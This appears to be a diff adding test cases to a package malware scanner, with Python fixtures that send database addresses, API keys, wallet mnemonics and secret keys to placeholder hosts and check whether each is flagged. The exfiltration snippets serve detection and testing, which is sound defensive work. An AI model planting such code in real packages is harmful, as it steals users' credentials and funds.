@@ -378,3 +378,138 @@ test.each([
 
   expect(await inspect('secret-parameter', file)).toMatchObject(expected);
 });
+
+test('the address of a data base, with what opens it, is told a host that is not asked anything', async () => {
+  const reader = (host: string, rest: string): string =>
+    python(
+      'import pymongo, requests',
+      'def connect(uri, name):',
+      `    ${rest}requests.post('https://${host}/m', json={'u': uri, 'n': name})`,
+      '    return pymongo.MongoClient(uri)[name]',
+    );
+
+  expect(
+    await inspect('secret-parameter', wheel({ 'pkg/__init__.py': reader('metrics.collector.invalid', '') })),
+  ).toMatchObject([{ class: 'suspicious', score: 6, context: 'call', line: 3 }]);
+  expect(await inspect('secret-parameter', wheel({ 'pkg/__init__.py': reader('203.0.113.7', '') }))).toMatchObject([
+    { class: 'malware', score: 10, context: 'call', line: 3 },
+  ]);
+  // a service that gives leave to connect
+  expect(
+    await inspect('secret-parameter', wheel({ 'pkg/__init__.py': reader('data.vendor.invalid', 'ticket = ') })),
+  ).toEqual([]);
+});
+
+test('a thread throws away what a lambda gives: the key is told, and nothing is asked', async () => {
+  const client = (thread: string): string =>
+    python(
+      'import threading, requests',
+      'class Client:',
+      '    def __init__(self, api_key):',
+      `        ${thread}`,
+      '        self.key = api_key',
+      '    def chat(self, words):',
+      "        return requests.post('https://api.vendor.invalid/v1', headers={'Authorization': self.key}, json=words)",
+    );
+  const asked = "requests.get('https://balance.collector.invalid/q', params={'key': api_key})";
+
+  expect(
+    await inspect(
+      'secret-parameter',
+      wheel({ 'pkg/__init__.py': client(`threading.Thread(target=lambda: ${asked}).start()`) }),
+    ),
+  ).toMatchObject([{ class: 'suspicious', score: 6, context: 'call', line: 4 }]);
+  expect(await inspect('secret-parameter', wheel({ 'pkg/__init__.py': client(`self.balance = ${asked}`) }))).toEqual(
+    [],
+  );
+});
+
+test('a connection of the library’s is not listened to because it was made, but where its answer is read', async () => {
+  const told = (rest: readonly string[]): string =>
+    python(
+      'import json',
+      'from http.client import HTTPSConnection',
+      'def code(secret):',
+      "    connection = HTTPSConnection('api.codes.invalid')",
+      "    connection.request('POST', '/v1/log', json.dumps({'k': secret}))",
+      ...rest,
+    );
+
+  expect(
+    await inspect('secret-parameter', wheel({ 'pkg/__init__.py': told(['    connection.getresponse()']) })),
+  ).toMatchObject([{ class: 'suspicious', score: 6, context: 'call', line: 5 }]);
+  expect(
+    await inspect(
+      'secret-parameter',
+      wheel({ 'pkg/__init__.py': told(['    return connection.getresponse().read()']) }),
+    ),
+  ).toMatchObject([{ class: 'note' }]);
+});
+
+test('words that open a wallet, sent to a letter box whose password stands in the code, are stolen', async () => {
+  const mailed = (host: string, user: string, word: string): string =>
+    python(
+      'import smtplib',
+      'def keep(mnemonic, host, user, word):',
+      `    server = smtplib.SMTP_SSL(${host}, 465)`,
+      `    server.login(${user}, ${word})`,
+      "    server.sendmail('a@mail.invalid', 'a@mail.invalid', mnemonic)",
+    );
+
+  expect(
+    await inspect('secret-parameter', wheel({ 'pkg/__init__.py': mailed("'smtp.mail.invalid'", "'a'", "'letmein1'") })),
+  ).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 5 }]);
+  expect(await inspect('secret-parameter', wheel({ 'pkg/__init__.py': mailed('host', 'user', 'word') }))).toEqual([]);
+});
+
+test('a key that was loaded, told a host that is asked nothing, is stolen whatever the name of what it was loaded from', async () => {
+  const loader = (what: string): string =>
+    python(
+      'import json, requests',
+      'from solders.keypair import Keypair',
+      'def load_keypair(path):',
+      '    pair = Keypair.from_bytes(bytes(json.load(open(path))))',
+      `    requests.post('https://health.nodes.invalid/v1', json={'id': ${what}})`,
+      '    return pair',
+    );
+
+  expect(await inspect('secret-parameter', wheel({ 'pkg/__init__.py': loader('pair.secret().hex()') }))).toMatchObject([
+    { class: 'malware', score: 10, context: 'call', line: 5 },
+  ]);
+  expect(await inspect('secret-parameter', wheel({ 'pkg/__init__.py': loader('str(pair.pubkey())') }))).toEqual([]);
+});
+
+test('a wrapper of requests that tells another host where it asks and what it signs in with', async () => {
+  const wrapper = (body: string): string =>
+    python(
+      'import requests',
+      'def get(url, auth=None):',
+      `    requests.post('https://stats.requests.invalid/log', json=${body})`,
+      '    return requests.get(url, auth=auth)',
+    );
+
+  expect(
+    await inspect('secret-parameter', wheel({ 'pkg/__init__.py': wrapper("{'u': url, 'a': auth}") })),
+  ).toMatchObject([{ class: 'suspicious', score: 6, context: 'call', line: 3 }]);
+  expect(await inspect('secret-parameter', wheel({ 'pkg/__init__.py': wrapper("{'u': url}") }))).toEqual([]);
+});
+
+test('look-alike: statistics with the key of their project and events out of a queue', async () => {
+  const file = wheel({
+    'pkg/client.py': python(
+      'import json, queue, threading, requests',
+      'class Client:',
+      "    def __init__(self, project_api_key, host='https://app.analytics.invalid'):",
+      '        self.key, self.host, self.queue = project_api_key, host, queue.Queue()',
+      '        threading.Thread(target=self.run, daemon=True).start()',
+      '    def capture(self, event):',
+      '        self.queue.put(event)',
+      '    def run(self):',
+      '        while True:',
+      '            event = self.queue.get()',
+      "            requests.post(self.host + '/batch', data=json.dumps({'api_key': self.key, 'batch': [event]}))",
+    ),
+  });
+
+  expect(await inspect('secret-parameter', file)).toEqual([]);
+});
